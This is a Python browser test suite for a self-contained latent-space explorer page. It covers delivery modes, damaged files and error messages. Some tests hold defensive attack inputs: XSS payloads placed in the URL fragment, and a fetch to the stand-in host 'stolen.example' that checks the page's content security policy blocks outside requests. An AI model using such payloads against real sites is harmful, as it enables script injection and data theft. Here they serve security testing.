#!/usr/bin/env python3
"""The page as it is delivered: from a file, from a plain web server, by `explore`; and what it says when a part is missing."""
import case

case.need()

import re  # noqa: E402
import socket  # noqa: E402
import subprocess  # noqa: E402

import numpy as np  # noqa: E402

import page  # noqa: E402
import pages  # noqa: E402
from browser import PHONE  # noqa: E402


class Delivery(page.PageTest):
    def assert_answers(self):
        """The page decodes what lies under the mouse: the engine runs, whatever the delivery."""
        x, y = self.screen(self.pack().map()[0])
        self.browser.move(x - 3, y)
        self.browser.move(x, y)
        self.browser.wait("hourglass.view.get('blend')", "a latent vector for the cursor")

    def test_from_a_file_nothing_is_requested(self):
        self.open()
        self.assert_answers()
        self.assertEqual(self.browser.requests(), [self.path().as_uri()])

    def test_in_one_file_the_policy_forbids_every_request(self):
        self.open()
        policy = self.browser.js("document.querySelector('meta[http-equiv=\"Content-Security-Policy\"]').content")
        for part in ("default-src 'none'", "connect-src 'none'", "script-src 'sha256-"):
            self.assertIn(part, policy)
        for never in ("'unsafe-inline'", "'unsafe-eval'", "http:", "https:", "*"):
            self.assertNotIn(never, policy)
        self.expects_errors = True
        tried = self.browser.js("fetch('http://stolen.example/').then(() => 'sent', () => 'refused')")
        self.assertEqual(tried, "refused")
        self.assertEqual(self.browser.elsewhere(), [])

    def test_a_plain_web_server_at_phone_size_answers_to_a_finger(self):
        with page.static_server(self.pages) as address:
            self.browser.resize(PHONE, touch=True, scale=2)
            self.open(url=address + "strokes.html")
            x, y = self.screen(self.pack().map()[0])
            self.browser.tap(x, y)
            self.browser.wait("hourglass.view.get('picked') >= 0", "a picked point")
            self.assertEqual(self.browser.requests(), [address + "strokes.html"])

    def test_explore_serves_the_page_and_ends_by_ctrl_c(self):
        with page.Explore("strokes_8", cwd=self.pages / "strokes") as served:
            self.open(url=served.address)
            self.assert_answers()
            own = re.match(r"http://[^/]+/[0-9a-f]{32}/", served.address)
            self.assertTrue(own, served.address)
            requests = self.browser.requests()
            self.assertTrue(all(url.startswith(own.group(0)) for url in requests), requests)
            self.assertTrue(any(url.endswith("pack.safetensors") for url in requests), requests)
            status = served.stop()
            self.assertIn(status, (0, 130))

    def test_a_page_whose_server_has_ended_still_answers(self):
        with page.Explore("strokes_8", cwd=self.pages / "strokes") as served:
            self.open(url=served.address)
            served.stop()
            self.assert_answers()

    def test_two_explorers_take_two_ports(self):
        with page.Explore("strokes_8", cwd=self.pages / "strokes") as one:
            with page.Explore("strokes_8", cwd=self.pages / "strokes") as other:
                port = lambda served: re.search(r":(\d+)/", served.address).group(1)
                self.assertNotEqual(port(one), port(other))
                self.open(url=other.address)
                self.assert_answers()

    def test_served_and_in_one_file_are_the_same_pack(self):
        with page.Explore("strokes_8", cwd=self.pages / "strokes") as served:
            self.open(url=served.address)
            found = self.browser.js("[hourglass.pack.count, hourglass.pack.maps.length, Array.from(hourglass.pack.maps[0].slice(0, 8))]")
            pack = self.pack()
            self.assertEqual(found[:2], [pack.count, len(pack.maps)])
            np.testing.assert_array_equal(np.float32(found[2]), pack.map(0).reshape(-1)[:8])


class Hostile(page.PageTest):
    page = "colour"

    def test_names_and_classes_with_markup_stay_text(self):
        self.open()
        self.assertEqual(self.browser.js("document.querySelectorAll('body img[src=x], body b:not([class])').length"), 0)
        self.assertNotEqual(self.browser.js("document.title"), "broken")
        legend = self.text_of("#legend")
        for name in pages.HOSTILE_CLASSES:
            self.assertIn(name[:10], legend)
        self.set("picked", 3)
        self.browser.wait("/script/.test(document.querySelector('#pane-picked').innerText)", "the picked image's name")
        for tab in ("line", "axes", "draw", "worst", "selection", "picked"):
            self.set("tab", tab)
            self.browser.frame()
        self.assertNotEqual(self.browser.js("document.title"), "broken")
        self.assertEqual(self.browser.js("document.querySelectorAll('#panel script, #panel img[src=x]').length"), 0)

    def test_markup_in_the_search_and_the_fragment_stays_text(self):
        for fragment in ("#q=<img src=x onerror=\"document.title='broken'\">", "#%3Cscript%3Edocument.title='broken'%3C/script%3E",
                         "#map=9e99&picked=-5&x=NaN&s=Infinity", "#picked=99999999", "#" + "%" * 400):
            self.open(fragment=fragment)
            self.browser.frame()
            self.assertNotEqual(self.browser.js("document.title"), "broken", fragment)
            x, y, scale = self.camera()
            self.assertTrue(np.isfinite([x, y, scale]).all() and scale > 0, fragment)


class Damaged(page.PageTest):
    """One sentence, nothing blank."""

    def changed(self, name, change):
        """A copy of the page after `change` of its text (latin-1)."""
        where = self.pages / name
        where.write_bytes(change(self.path().read_bytes()))
        self.addCleanup(where.unlink)
        return where.as_uri()

    def assert_one_sentence(self, text, pattern):
        self.assertRegex(text, pattern)
        self.assertLess(len(text), 220)
        self.assertEqual(text.count("\n"), 0, text)

    def test_a_file_that_is_cut_off(self):
        text = self.fails_to_open(self.changed("cut.html", lambda b: b[:len(b) * 2 // 3]))
        self.assert_one_sentence(text, "cut off|not whole|damaged")

    def test_a_damaged_pack(self):
        def change(content):
            at = content.index(b'id="pack.safetensors"')
            at = content.index(b">", at) + 2000
            return content[:at] + b"A" * 40 + content[at + 40:]
        try:
            text = self.fails_to_open(self.changed("damaged.html", change))
        except RuntimeError as error:
            self.fail(str(error))
        self.assert_one_sentence(text, "damaged")

    def test_a_missing_pack(self):
        text = self.fails_to_open(self.changed("missing.html", lambda b: b.replace(b'id="pack.safetensors"', b'id="other"')))
        self.assert_one_sentence(text, "pack is missing")

    def test_a_missing_engine(self):
        text = self.fails_to_open(self.changed("engineless.html", lambda b: b.replace(b'id="engine.wasm"', b'id="other"')))
        self.assert_one_sentence(text, "engine is missing")

    def test_a_missing_model_leaves_the_map_and_says_what_is_missing(self):
        address = self.changed("modelless.html", lambda b: b.replace(b'id="model', b'id="other'))
        self.open(url=address)
        self.assertFalse(self.browser.js("hourglass.engine.canDecode"))
        self.browser.move(*self.screen(self.pack().map()[0]))
        self.waits_for_text("#cursor", "decoder|model")

    def test_no_webassembly(self):
        text = self.fails_to_open(self.path().as_uri(), "delete window.WebAssembly")
        self.assert_one_sentence(text, "WebAssembly")

    def test_no_decompression_stream(self):
        text = self.fails_to_open(self.path().as_uri(), "delete window.DecompressionStream")
        self.assert_one_sentence(text, "DecompressionStream")

    def test_a_server_that_is_gone_while_it_loads(self):
        with page.Explore("strokes_8", cwd=self.pages / "strokes") as served:
            stop = "window.fetch = () => Promise.reject(new TypeError('Failed to fetch'))"
            text = self.fails_to_open(served.address, stop)
            self.assert_one_sentence(text, "nothing answers|cannot be fetched")


class Program(page.PageTest):
    """What `explore` says in the terminal: one line each."""

    def refused(self, *arguments):
        done = subprocess.run([page.os.environ["HOURGLASS_PROGRAM"], "explore", *map(str, arguments)],
                              cwd=self.pages / "matrix", capture_output=True, text=True, timeout=60)
        self.assertNotEqual(done.returncode, 0, done.stdout)
        # Notes of what the page will lack come before.
        self.assertRegex(done.stderr.splitlines()[-1], "^hourglass: ")
        return done.stderr.splitlines()[-1]

    def test_a_port_that_is_taken_is_named(self):
        with socket.socket() as taken:
            taken.bind(("127.0.0.1", 0))
            taken.listen()
            port = taken.getsockname()[1]
            said = self.refused("X.npy", "--port", port, "--no_browser")
            self.assertIn(str(port), said)

    def test_a_run_that_is_not_there_is_named(self):
        self.assertIn("nothing_32", self.refused("nothing_32", "-o", "n.html"))


case.main()
